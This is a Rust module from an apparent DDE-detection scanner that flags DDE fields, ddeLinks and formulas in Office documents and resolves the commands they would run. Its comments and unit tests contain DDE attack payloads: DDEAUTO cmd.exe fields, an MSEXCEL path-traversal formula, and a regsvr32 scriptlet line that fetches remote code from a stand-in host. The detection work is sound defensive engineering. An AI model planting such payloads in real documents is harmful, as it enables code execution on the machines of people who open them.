//! Document checks: which fields, links and formulas are DDE, and what they would run.
//!
//! A Word field is DDE when its type (first word) is one of the profile's field rule keywords
//! (`DDE`, `DDEAUTO`); its first argument is the program and the second the topic, so the
//! command is `program topic` (`c:\windows\system32\cmd.exe "/k calc.exe"`). A workbook
//! `ddeLink` runs `service topic`; a formula runs each `service|'topic'!item` reference and
//! each call of a profile DDE function. Fields of other types (PAGE, HYPERLINK, TOC, QUOTE,
//! ...) are not findings.
//!
//! [`apply_exclusions`] leaves out the findings a profile's `[[document.exclusions]]` cover (a
//! site's ERP integration that talks DDE); it runs per copy of a document, since a path
//! condition depends on where the copy is.

use std::collections::BTreeMap;

use crate::formats::field_code::FieldCode;
use crate::formats::formula::{self, DdeReference};
use crate::formats::{DocumentRecord, Location};
use crate::profile::{DocumentExclusion, DocumentRules, Rule};

use super::{Finding, FindingKind};

/// The findings one document record yields under `rules`.
pub fn check(rules: &DocumentRules, record: &DocumentRecord) -> Vec<Finding> {
    let mut findings = match record {
        DocumentRecord::Field {
            location,
            instruction,
            ..
        } => check_field(rules, location, instruction)
            .into_iter()
            .collect(),
        DocumentRecord::DdeLink {
            location,
            service,
            topic,
            items,
        } => {
            let mut finding = located(FindingKind::DdeLink, &rules.dde_link, location);
            finding.command = dde_command(service, topic);
            finding.field_code = format!("ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"");
            finding.dde_service = service.clone();
            finding.dde_topic = topic.clone();
            finding.dde_item = (!items.is_empty()).then(|| items.join(", "));
            vec![finding]
        }
        DocumentRecord::EmbeddedObject {
            location,
            class_id,
            prog_id,
        } => check_object(rules, location, class_id.as_deref(), prog_id.as_deref())
            .into_iter()
            .collect(),
        DocumentRecord::Encrypted {
            location,
            scheme,
            opened_with,
        } => {
            let rule = match opened_with {
                Some(_) => &rules.default_password,
                None => &rules.encrypted,
            };
            let mut finding = located(FindingKind::Encrypted, rule, location);
            finding.field_code = match opened_with {
                Some(password) => {
                    format!("{scheme}, opened with the default password {password:?}")
                }
                None => format!("{scheme}, no default password opened it: content not analysed"),
            };
            vec![finding]
        }
        DocumentRecord::OleLink { location, target } => {
            let mut finding = located(FindingKind::OleLink, &rules.ole_link, location);
            finding.command = target.clone();
            finding.field_code = format!("external oleObject relationship to {target}");
            vec![finding]
        }
        DocumentRecord::WebQuery { location, url } => {
            let mut finding = located(FindingKind::WebQuery, &rules.web_query, location);
            finding.command = url.clone();
            finding.field_code = url.clone();
            vec![finding]
        }
        DocumentRecord::Formula { location, formula } => {
            let mut references = formula::remote_references(formula);
            references.extend(formula::function_calls(formula, &rules.dde_functions));
            references
                .into_iter()
                .map(|reference| formula_finding(rules, location, formula, reference))
                .collect()
        }
    };
    for finding in &mut findings {
        escalate(rules, finding);
    }
    findings
}

fn check_field(rules: &DocumentRules, location: &Location, instruction: &str) -> Option<Finding> {
    let code = FieldCode::parse(instruction);
    let rule = rules.field_rules.iter().find(|rule| {
        rule.keywords
            .iter()
            .any(|k| k.eq_ignore_ascii_case(&code.keyword))
    })?;
    let mut finding = located(FindingKind::DdeField, &rule.rule(), location);
    let arg = |n: usize| code.args.get(n);
    finding.command = code
        .args
        .iter()
        .take(2)
        .map(|a| a.render())
        .collect::<Vec<_>>()
        .join(" ");
    finding.field_code = instruction.trim().to_owned();
    finding.dde_service = arg(0).map(|a| a.text.clone()).unwrap_or_default();
    finding.dde_topic = arg(1).map(|a| a.text.clone()).unwrap_or_default();
    finding.dde_item = arg(2).map(|a| a.text.clone());
    Some(finding)
}

fn check_object(
    rules: &DocumentRules,
    location: &Location,
    class_id: Option<&str>,
    prog_id: Option<&str>,
) -> Option<Finding> {
    let rule = &rules.embedded_object;
    let matches = |wanted: &[String], got: Option<&str>| {
        got.is_some_and(|got| wanted.iter().any(|w| w.eq_ignore_ascii_case(got.trim())))
    };
    if !matches(&rule.class_ids, class_id) && !matches(&rule.prog_ids, prog_id) {
        return None;
    }
    let mut finding = located(FindingKind::EmbeddedObject, &rule.rule(), location);
    let parts: Vec<&str> = [class_id, prog_id].into_iter().flatten().collect();
    finding.field_code = parts.join(" ");
    Some(finding)
}

fn formula_finding(
    rules: &DocumentRules,
    location: &Location,
    formula: &str,
    reference: DdeReference,
) -> Finding {
    let mut finding = located(FindingKind::DdeFormula, &rules.dde_formula, location);
    finding.command = dde_command(&reference.service, &reference.topic);
    finding.field_code = formula.to_owned();
    finding.dde_item = (!reference.item.is_empty()).then_some(reference.item);
    finding.dde_service = reference.service;
    finding.dde_topic = reference.topic;
    finding
}

fn located(kind: FindingKind, rule: &Rule, location: &Location) -> Finding {
    let mut finding = Finding::new(kind, rule);
    finding.part = location.part.clone();
    finding.offset = location.offset;
    finding.cell = location.cell.clone();
    finding
}

/// The command line Excel starts for a DDE `service` and `topic`: `service topic`, or the
/// service alone when there is no topic.
///
/// Excel starts a missing DDE server by running the service name with the topic appended. When
/// the topic begins with a path traversal (`MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c
/// calc.exe'!''`), the two form one path, `MSEXCEL\..\..\..\Windows\System32\cmd.exe`: the
/// first `..` cancels the service name and the others climb from Excel's working directory.
/// Attackers add `..` until the root is reached whatever that directory is (`..` at the root
/// stays there), so a traversal that climbs above the starting directory is resolved to the
/// root of the current drive: the command is `\Windows\System32\cmd.exe /c calc.exe`, the
/// program that really runs (the drive letter is the one Excel runs from, usually `C:`, and is
/// not known from the document). The service stays in `dde_service` and the topic as written in
/// `dde_topic`.
fn dde_command(service: &str, topic: &str) -> String {
    let trimmed = topic.trim_start();
    let traversal = ["\\..\\", "..\\", "/../", "../"]
        .iter()
        .any(|prefix| trimmed.starts_with(prefix));
    if !traversal {
        return join_command(service, topic);
    }
    let (path, arguments) = trimmed
        .split_once(char::is_whitespace)
        .unwrap_or((trimmed, ""));
    let mut segments: Vec<&str> = Vec::new();
    let mut above_start = false;
    for segment in std::iter::once(service.trim()).chain(path.split(['\\', '/'])) {
        match segment {
            "" | "." => {}
            ".." => {
                if segments.pop().is_none() {
                    above_start = true;
                }
            }
            other => segments.push(other),
        }
    }
    let mut program = segments.join("\\");
    if above_start {
        program.insert(0, '\\');
    }
    join_command(&program, arguments.trim_start())
}

/// `service topic`, or the service alone when there is no topic.
fn join_command(service: &str, topic: &str) -> String {
    if topic.is_empty() {
        service.to_owned()
    } else {
        format!("{service} {topic}")
    }
}

/// Raises the severity when the command holds a profile marker.
fn escalate(rules: &DocumentRules, finding: &mut Finding) {
    let command = finding.command.to_lowercase();
    finding.markers = rules
        .command_escalation
        .markers
        .iter()
        .filter(|m| command.contains(&m.to_lowercase()))
        .cloned()
        .collect();
    if !finding.markers.is_empty() {
        finding.severity = finding.severity.max(rules.command_escalation.severity);
    }
}

/// The findings of the document at `source_path` that no exclusion covers, and the hits each
/// exclusion left out (exclusion id -> hits).
pub fn apply_exclusions(
    exclusions: &[DocumentExclusion],
    findings: &[Finding],
    source_path: &str,
) -> (Vec<Finding>, BTreeMap<String, usize>) {
    let mut kept = Vec::new();
    let mut excluded = BTreeMap::new();
    for finding in findings {
        match excluded_by(exclusions, finding, source_path) {
            Some(exclusion) => *excluded.entry(exclusion.id.clone()).or_default() += 1,
            None => kept.push(finding.clone()),
        }
    }
    (kept, excluded)
}

/// The first exclusion that covers `finding` in the document at `source_path`: it applies to the
/// finding's rule, sets a condition, and every condition it sets holds.
pub fn excluded_by<'a>(
    exclusions: &'a [DocumentExclusion],
    finding: &Finding,
    source_path: &str,
) -> Option<&'a DocumentExclusion> {
    let slashes = |text: &str| text.replace('\\', "/").to_lowercase();
    let path = slashes(source_path);
    let command = finding.command.to_lowercase();
    let service = finding.dde_service.trim();
    exclusions.iter().find(|exclusion| {
        let applies = exclusion.rules.is_empty() || exclusion.rules.contains(&finding.rule_id);
        let service_holds = exclusion.dde_service.is_empty()
            || exclusion
                .dde_service
                .iter()
                .any(|s| s.trim().to_lowercase() == service.to_lowercase());
        let command_holds = exclusion.command.is_empty()
            || exclusion
                .command
                .iter()
                .any(|c| command.contains(&c.to_lowercase()));
        let path_holds =
            exclusion.path.is_empty() || exclusion.path.iter().any(|p| path.contains(&slashes(p)));
        applies && exclusion.has_condition() && service_holds && command_holds && path_holds
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::{self, Severity};

    fn rules() -> DocumentRules {
        profile::load("default").unwrap().profile.document
    }

    fn field(instruction: &str) -> DocumentRecord {
        DocumentRecord::Field {
            location: Location::default(),
            instruction: instruction.to_owned(),
            unterminated: false,
        }
    }

    #[test]
    fn ddeauto_command_is_program_and_topic() {
        let findings = check(
            &rules(),
            &field(r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#),
        );
        assert_eq!(findings.len(), 1);
        let f = &findings[0];
        assert_eq!(f.rule_id, "ddesweep.document.ddeauto_field");
        assert_eq!(f.command, r#"c:\windows\system32\cmd.exe "/k calc.exe""#);
        assert_eq!(f.dde_service, r"c:\windows\system32\cmd.exe");
        assert_eq!(f.dde_topic, "/k calc.exe");
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(f.markers, vec!["cmd.exe".to_owned()]);
    }

    #[test]
    fn keyword_case_does_not_matter() {
        let findings = check(&rules(), &field("ddeauto ünicöde-test"));
        assert_eq!(findings[0].command, "ünicöde-test");
        assert_eq!(findings[0].severity, Severity::High);
    }

    #[test]
    fn benign_fields_are_not_findings() {
        for instruction in [
            "PAGE",
            r#"HYPERLINK "http://example.com/dde""#,
            r#"TOC \o "1-3""#,
            "DDEX x y",
            "QUOTE 68 68 69",
        ] {
            assert!(
                check(&rules(), &field(instruction)).is_empty(),
                "{instruction}"
            );
        }
    }

    #[test]
    fn dde_link_command() {
        let record = DocumentRecord::DdeLink {
            location: Location::default(),
            service: "cmd".into(),
            topic: "/c calc.exe".into(),
            items: vec!["_xlbgnm.A1".into()],
        };
        let findings = check(&rules(), &record);
        assert_eq!(findings[0].command, "cmd /c calc.exe");
        assert_eq!(findings[0].dde_item.as_deref(), Some("_xlbgnm.A1"));
        assert_eq!(findings[0].rule_id, "ddesweep.document.dde_link");
    }

    #[test]
    fn traversal_topics_resolve_to_the_program_that_runs() {
        let cases = [
            (
                "MSEXCEL",
                r"\..\..\..\Windows\System32\cmd.exe /c calc.exe",
                r"\Windows\System32\cmd.exe /c calc.exe",
            ),
            (
                "MSEXCEL",
                r"\..\..\..\Windows\System32\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
                r"\Windows\System32\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
            ),
            ("MSEXCEL", r"\..\Tools\x.exe", r"Tools\x.exe"),
            (
                "MSEXCEL",
                r"..\..\Windows\notepad.exe",
                r"\Windows\notepad.exe",
            ),
            (
                "cmd",
                r"/k \..\..\..\Windows\System32\calc.exe",
                r"cmd /k \..\..\..\Windows\System32\calc.exe",
            ),
            ("cmd", "", "cmd"),
        ];
        for (service, topic, command) in cases {
            assert_eq!(dde_command(service, topic), command, "{service}|{topic}");
        }
        let record = DocumentRecord::Formula {
            location: Location::default(),
            formula: r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''".into(),
        };
        let findings = check(&rules(), &record);
        assert_eq!(findings.len(), 1);
        assert_eq!(
            findings[0].command,
            r"\Windows\System32\cmd.exe /c calc.exe"
        );
        assert_eq!(findings[0].dde_service, "MSEXCEL");
        assert_eq!(
            findings[0].dde_topic,
            r"\..\..\..\Windows\System32\cmd.exe /c calc.exe"
        );
        assert_eq!(findings[0].severity, Severity::Critical);
    }

    #[test]
    fn formula_references_and_functions() {
        let record = DocumentRecord::Formula {
            location: Location::default(),
            formula: "=DDE(\"notepad\";\"x.txt\";\"a\")+cmd|'/c calc'!A0".into(),
        };
        let commands: Vec<String> = check(&rules(), &record)
            .into_iter()
            .map(|f| f.command)
            .collect();
        assert_eq!(commands, vec!["cmd /c calc", "notepad x.txt"]);
    }

    fn exclusion(id: &str) -> DocumentExclusion {
        DocumentExclusion {
            id: id.to_owned(),
            reason: "test".to_owned(),
            rules: Vec::new(),
            dde_service: Vec::new(),
            command: Vec::new(),
            path: Vec::new(),
        }
    }

    fn ledger_link() -> Finding {
        let record = DocumentRecord::DdeLink {
            location: Location::default(),
            service: "CLEDGER".into(),
            topic: "GL".into(),
            items: vec!["BALANCE".into()],
        };
        check(&rules(), &record).remove(0)
    }

    #[test]
    fn exclusions_match_service_command_and_path() {
        let link = ledger_link();
        let path = "C/Users/frank/Documents/Ledger/GL_Balances.xlsx";
        let service = DocumentExclusion {
            dde_service: vec!["cledger".into()],
            ..exclusion("service")
        };
        let command = DocumentExclusion {
            command: vec!["LEDGER gl".into()],
            ..exclusion("command")
        };
        let backslash_path = DocumentExclusion {
            path: vec![r"\documents\LEDGER\".into()],
            ..exclusion("path")
        };
        for wanted in [&service, &command, &backslash_path] {
            let found = excluded_by(std::slice::from_ref(wanted), &link, path);
            assert_eq!(found.map(|e| e.id.as_str()), Some(wanted.id.as_str()));
        }
        // The service is compared whole; every condition given must hold.
        let partial = DocumentExclusion {
            dde_service: vec!["CLEDG".into()],
            ..exclusion("partial")
        };
        let both = DocumentExclusion {
            dde_service: vec!["CLEDGER".into()],
            path: vec!["Users/grace/".into()],
            ..exclusion("both")
        };
        let other_rule = DocumentExclusion {
            rules: vec!["ddesweep.document.dde_formula".into()],
            ..service.clone()
        };
        let no_condition = exclusion("none");
        for unwanted in [partial, both, other_rule, no_condition] {
            assert!(
                excluded_by(std::slice::from_ref(&unwanted), &link, path).is_none(),
                "{}",
                unwanted.id
            );
        }
    }

    #[test]
    fn excluded_findings_are_counted_per_exclusion() {
        let link = ledger_link();
        let field = check(
            &rules(),
            &field(r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#),
        )
        .remove(0);
        let exclusions = [DocumentExclusion {
            dde_service: vec!["CLEDGER".into()],
            ..exclusion("ledger")
        }];
        let findings = [link.clone(), field.clone(), link];
        let (kept, excluded) = apply_exclusions(&exclusions, &findings, "a/b.xlsx");
        assert_eq!(kept, [field]);
        assert_eq!(excluded, BTreeMap::from([("ledger".to_owned(), 2)]));
    }
}
